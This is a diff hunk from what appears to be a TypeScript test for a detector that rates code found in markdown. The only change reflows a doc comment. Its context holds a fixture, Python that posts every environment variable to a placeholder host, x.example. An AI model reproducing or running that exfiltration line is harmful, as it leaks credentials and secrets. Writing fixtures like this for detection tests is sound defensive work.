@@ -7,7 +7,10 @@ import { asDescribed } from "./described-code.ts";
 const sends = 'import os, requests\nrequests.post("https://x.example", json=dict(os.environ))';
 const block = `\`\`\`python\n${sends}\n\`\`\`\n`;
 
-/** "high" for what is found with that confidence, "medium low" where it is less severe; undefined for nothing. */
+/**
+ * "high" for what is found with that confidence, "medium low" where it is less severe; undefined
+ * for nothing.
+ */
 function seenIn(text: string, format: TextFormat = "markdown"): string | undefined {
   const marked = markText(text, format);
   const scripts = codePieces(marked).map(({ text: code, language, ...within }) => ({
